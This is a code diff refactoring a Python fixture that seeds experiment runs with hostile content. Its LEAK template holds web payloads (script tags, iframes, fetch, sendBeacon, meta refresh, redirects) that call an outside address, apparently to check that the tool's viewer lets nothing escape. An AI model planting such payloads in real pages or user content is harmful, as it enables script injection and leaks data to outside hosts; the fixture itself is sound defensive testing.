@@ -1,14 +1,9 @@
-"""Makes runs of which all that can be named or said is nasty: a user's code, in a process of its own.
-
-`python nasty_runs.py TEXTS ADDRESS`: the texts are JSON; each run is printed as a line of it. What they put out tries
-to reach the address.
-"""
+"""Makes runs of which all that can be named or said is nasty, and what they put out tries to reach an address."""
 
 from __future__ import annotations
 
 import base64
 import json
-import sys
 from pathlib import Path
 
 from cellrun.core import Experiment, Workspace
@@ -32,7 +27,7 @@ OUTPUTS = (
 
 LEAK = """<title>leak</title><img src="{0}/image"><link rel="stylesheet" href="{0}/style">
 <script src="{0}/script"></script><iframe src="{0}/frame"></iframe><form action="{0}/form" id="form"></form>
-<meta http-equiv="refresh" content="2; {0}/refresh">
+<meta http-equiv="refresh" content="1; {0}/refresh">
 <script>
 fetch("{0}/fetch").catch(() => {{}});
 navigator.sendBeacon("{0}/beacon");
@@ -48,16 +43,21 @@ setTimeout(() => {{ location = "{0}/location" }}, 500);
 </script>"""
 
 
-def main(texts: list[str], address: str) -> None:
-    """Make two runs in the default workspace."""
+def make_runs(texts: list[str], address: str, folder: Path) -> list[dict[str, str]]:
+    """Make two runs in the default workspace, of files in `folder`; return the workspace and the id of each."""
     leak = LEAK.format(address)
-    Path("page.html").write_text("".join([*texts, leak]))
-    Path("whole.html").write_text(f"<!doctype html><html><body>{leak}</body></html>")
-    Path("page.md").write_text("\n\n".join([*texts, f"![image]({address}/markdown)", leak]))
-    Path("page.csv").write_text("\n".join(json.dumps(text) for text in texts))
-    Path("page.json").write_text(json.dumps(texts))
-    Path("picture.svg").write_text(PICTURE.format(address))
-    Path("picture.png").write_bytes(base64.b64decode(DOT))
+    files = {
+        "page.html": "".join([*texts, leak]),
+        "whole.html": f"<!doctype html><html><body>{leak}</body></html>",
+        "page.md": "\n\n".join([*texts, f"![image]({address}/markdown)", leak]),
+        "page.csv": "\n".join(json.dumps(text) for text in texts),
+        "page.json": json.dumps(texts),
+        "picture.svg": PICTURE.format(address),
+    }
+    for name, content in files.items():
+        (folder / name).write_text(content)
+    (folder / "picture.png").write_bytes(base64.b64decode(DOT))
+    made = []
     for name in texts[:2]:
         run = Experiment(Workspace.from_config(), "safety").start_logging(display_name=name)
         for text in texts:
@@ -67,11 +67,8 @@ def main(texts: list[str], address: str) -> None:
             run.tag(text, text)
         run.layout.log.write_text("\n".join([*texts, LINK, ""]))
         for output in OUTPUTS:
-            run.upload_file(f"outputs/{output}", "picture.svg" if output.endswith(".svg") else output)
-        run.log_image(texts[0], path="picture.png")
+            run.upload_file(f"outputs/{output}", folder / ("picture.svg" if output.endswith(".svg") else output))
+        run.log_image(texts[0], path=folder / "picture.png")
         run.fail(texts[1])
-        print(json.dumps({"workspace": run.experiment.workspace.id, "run": run.id}))
-
-
-if __name__ == "__main__":
-    main(json.loads(sys.argv[1]), sys.argv[2])
+        made.append({"workspace": run.experiment.workspace.id, "run": run.id})
+    return made
